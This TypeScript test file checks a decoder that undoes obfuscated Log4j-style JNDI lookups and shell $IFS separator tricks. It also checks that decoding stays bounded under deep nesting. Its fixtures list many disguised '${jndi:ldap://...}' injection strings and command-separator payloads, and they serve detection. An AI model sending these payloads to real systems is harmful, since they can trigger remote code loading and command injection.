import { equal, ok } from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { decode } from './decode.ts'
import { stepsOf } from './steps.ts'
import { undoLookups } from './undo-lookups.ts'

const disguises: readonly (readonly [sent: string, meant: string])[] = [
  ['nothing hidden', 'nothing hidden'],
  ['${jndi:ldap://198.51.100.9/a}', '${jndi:ldap://198.51.100.9/a}'],
  ['${JNDI:ldap://198.51.100.9/a}', '${jndi:ldap://198.51.100.9/a}'],
  ['${${lower:j}ndi:ldap://x}', '${jndi:ldap://x}'],
  ['${${upper:J}ndi:ldap://x}', '${jndi:ldap://x}'],
  ['${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}i://x}', '${jndi:rmi://x}'],
  ['${${:-j}ndi:ldap://x}', '${jndi:ldap://x}'],
  ['${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x}', '${jndi:ldap://x}'],
  ['${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}', '${jndi:ldap://x}'],
  ['${jn${env::-}di:ldap://x}', '${jndi:ldap://x}'],
  ['${jn${aVariableWithALongName:-d}i:ldap://x}', '${jndi:ldap://x}'],
  ['${jndi:ldap:${::-/}${::-/}x}', '${jndi:ldap://x}'],
  ["${${date:'j'}${date:'n'}di:ldap://x}", '${jndi:ldap://x}'],
  ['${${lower:${upper:${lower:j}}}ndi:ldap://x}', '${jndi:ldap://x}'],
  ['${base64:JHtqbmRpOmxkYXA6Ly94fQ==}', '${jndi:ldap://x}'],
  ['${${base64:am5kaQ==}:ldap://x}', '${jndi:ldap://x}'],
  ['${jndi:ldap://${hostName}.example.org/a}', '${jndi:ldap://${hostName}.example.org/a}'],
  ['${jndi:ldap://x/a:-b}', '${jndi:ldap://x/a:-b}'],
  ['${java:version}', '${java:version}'],
  ['${a:-}', ''],
  ['cd${IFS}/tmp', 'cd /tmp'],
  ['cd$IFS/tmp', 'cd /tmp'],
  ['/language/Swedish${ifs}&&', '/language/Swedish &&'],
  ['$IF', '$IF'],
  ['${', '${'],
  ['}', '}'],
  ['${}', '${}'],
  ['$${lower:x}', '$x'],
  ['${lower:j', '${lower:j'],
  ['price: $5', 'price: $5'],
]

for (const [sent, meant] of disguises) {
  test(`${sent} means ${meant}`, () => equal(undoLookups(sent), meant))
}

const pieces = fc.constantFrom(
  '${',
  '}',
  ':',
  ':-',
  '-',
  '$',
  'lower:',
  'upper:',
  'env:X:-',
  'base64:',
  'date:',
  "'",
  'jndi:',
  'IFS',
  '$IFS',
  'JHtsb3dlcjpq',
  'am5kaQ==',
  'x',
  '%24',
  '%7b',
  '%25',
)

test('whatever is sent is undone in steps that its length bounds, and never grows', () => {
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 300 }), parts => {
      const text = parts.join('')
      let meant = ''
      const steps = stepsOf(() => (meant = undoLookups(decode(text))))
      ok(steps <= 12 * text.length, `${steps} steps for ${text.length}`)
      ok(meant.length <= text.length)
    }),
    { numRuns: 2000 },
  )
})

const nests: readonly (readonly [what: string, nest: (depth: number) => string])[] = [
  ['lower in lower', depth => `${'${lower:'.repeat(depth)}x${'}'.repeat(depth)}`],
  ['defaults in defaults', depth => `${'${:-'.repeat(depth)}x${'}'.repeat(depth)}`],
  [
    'defaults behind long names',
    depth => `${'${env:NaNaNaNaN:-'.repeat(depth)}x${'}'.repeat(depth)}`,
  ],
  ['lookups that nobody resolves', depth => `${'${java:'.repeat(depth)}x${'}'.repeat(depth)}`],
  ['lookups that nobody closes', depth => '${jndi:'.repeat(depth)],
  ['brackets that nobody opened', depth => '}'.repeat(depth)],
  ['dates', depth => `${"${date:'".repeat(depth)}x${"'}".repeat(depth)}`],
  ['blanks', depth => '${IFS}'.repeat(depth)],
  ['percents', depth => `%${'25'.repeat(depth)}24{lower:x}`],
  [
    'everything at once',
    depth => `${'%24%7blower:${base64:%25'.repeat(depth)}${'}'.repeat(2 * depth)}`,
  ],
]

for (const [what, nest] of nests) {
  test(`${what}: nesting costs a bounded number of steps for each character`, () => {
    for (const depth of [10, 100, 3000]) {
      const text = nest(depth)
      const steps = stepsOf(() => undoLookups(decode(text)))
      ok(steps <= 12 * text.length, `${steps} steps for ${text.length} characters`)
    }
  })
}

test('base64 in base64 in base64 ends', () => {
  let text = 'jndi'
  for (let depth = 0; depth < 12; depth++) text = `\${base64:${btoa(text)}}`
  equal(undoLookups(text), 'jndi')
})
